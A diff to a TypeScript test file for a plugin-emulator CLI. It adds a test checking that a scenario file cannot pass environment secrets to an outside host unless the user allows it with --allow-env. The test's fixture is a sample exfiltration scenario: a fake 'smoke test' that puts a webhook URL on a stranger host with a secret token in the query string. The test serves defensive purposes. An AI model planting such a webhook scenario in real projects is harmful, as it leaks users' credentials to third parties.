@@ -8,7 +8,7 @@ import { runScenario } from '../../src/emulator-entry.js';
 import { recordScenario } from '../../src/scenario/record.js';
 import { validateScenario } from '../../src/scenario/validate.js';
 import { runCli, spawnCli, type CliProcess } from '../kit/cli-process.js';
-import { tempDir } from '../kit/index.js';
+import { receiver, tempDir } from '../kit/index.js';
 import { markedProcesses } from '../kit/processes.js';
 import { typescriptProject } from '../kit/project.js';
 import { emulatorAndClient, serveEchoPlugin } from '../kit/plugin-server.js';
@@ -134,6 +134,69 @@ describe('${env.*}: recorded text stays text, and expanded values never come bac
     expect(received).toEqual([]);
   });
 
+  test("a file's own env list passes nothing: a scenario that would send a variable to a webhook host stops before anything is sent, naming --allow-env", async () => {
+    const { pluginId, cliEnv } = await setUp();
+    const stranger = await receiver();
+    const dir = await tempDir();
+    // From a cloned project: a "smoke test" that points a new plugin's webhook at another host, the token in its URL.
+    const exfiltrate = {
+      name: 'plugin smoke test',
+      env: ['PROBE_SECRET'],
+      steps: [
+        {
+          id: 'made',
+          request: {
+            method: 'POST',
+            path: '/api/plugins',
+            body: {
+              orgId: 'org_dev',
+              name: 'helper',
+              type: 'EVENT_HANDLER',
+              webhookUrl: `${stranger.webhookUrl}?t=\${env.PROBE_SECRET}`,
+            },
+          },
+        },
+        { request: { method: 'POST', path: '/api/plugins/${made.data.id}/verify-webhook' } },
+      ],
+    };
+    await writeFile(join(dir, 'smoke.json'), JSON.stringify(exfiltrate));
+    const env = { ...(await cliEnv()), PROBE_SECRET: SECRET };
+    const refused = await runCli(['scenario', 'run', 'smoke.json', '--plugin', pluginId], {
+      cwd: dir,
+      env,
+    });
+    expect(refused.code, refused.stderr).toBe(2);
+    expect(refused.stderr).toContain(
+      'the scenario asks for the environment variable PROBE_SECRET, which this run does not pass',
+    );
+    expect(refused.stderr).toContain('--allow-env PROBE_SECRET');
+    expect(refused.stderr).toContain('PLUGSMITH_SCENARIO_ENV=PROBE_SECRET');
+    // Said once, at the file's "env": not again as "not set" at the reference.
+    expect(refused.stderr).not.toContain('is not set');
+    expect(`${refused.stdout}${refused.stderr}`).not.toContain(SECRET);
+    expect(stranger.received).toEqual([]);
+    // Allowing another name is not allowing this one.
+    const other = await runCli(
+      ['scenario', 'run', 'smoke.json', '--plugin', pluginId, '--allow-env', 'HOME,PATH'],
+      {
+        cwd: dir,
+        env,
+      },
+    );
+    expect(other.code, other.stderr).toBe(2);
+    expect(stranger.received).toEqual([]);
+    // The person's choice passes it: then the steps send it where they say.
+    const allowed = await runCli(
+      ['scenario', 'run', 'smoke.json', '--plugin', pluginId, '--allow-env', 'PROBE_SECRET'],
+      {
+        cwd: dir,
+        env,
+      },
+    );
+    expect(allowed.code, allowed.stderr).toBe(0);
+    expect(stranger.received.map((request) => request.url)).toEqual([`/webhook?t=${SECRET}`]);
+  });
+
   test('the CLI shows no expanded value: console, --json and JUnit', async () => {
     const { pluginId, received, cliEnv } = await setUp();
     const dir = await tempDir();
@@ -141,17 +204,31 @@ describe('${env.*}: recorded text stays text, and expanded values never come bac
       env: ['PROBE_SECRET'],
     });
     await writeFile(join(dir, 'chat.json'), JSON.stringify(scenario));
-    const env = { ...(await cliEnv()), PROBE_SECRET: SECRET };
+    // Passed by the person running it: PLUGSMITH_SCENARIO_ENV here, --allow-env below.
+    const env = {
+      ...(await cliEnv()),
+      PROBE_SECRET: SECRET,
+      PLUGSMITH_SCENARIO_ENV: 'PROBE_SECRET',
+    };
     const human = await runCli(
       ['scenario', 'run', 'chat.json', '--plugin', pluginId, '--junit', 'report.xml'],
       { cwd: dir, env },
     );
     expect(human.code, human.stderr).toBe(1);
     expect(human.stdout).toContain('You said: hi ${env.PROBE_SECRET}');
-    const json = await runCli(['scenario', 'run', 'chat.json', '--plugin', pluginId, '--json'], {
-      cwd: dir,
-      env,
-    });
+    const json = await runCli(
+      [
+        'scenario',
+        'run',
+        'chat.json',
+        '--plugin',
+        pluginId,
+        '--json',
+        '--allow-env',
+        'PROBE_SECRET',
+      ],
+      { cwd: dir, env: { ...env, PLUGSMITH_SCENARIO_ENV: '' } },
+    );
     expect(json.code, json.stderr).toBe(1);
     expect(JSON.parse(json.stdout).scenarios[0].steps[1].label).toBe(
       'message "hi ${env.PROBE_SECRET}"',
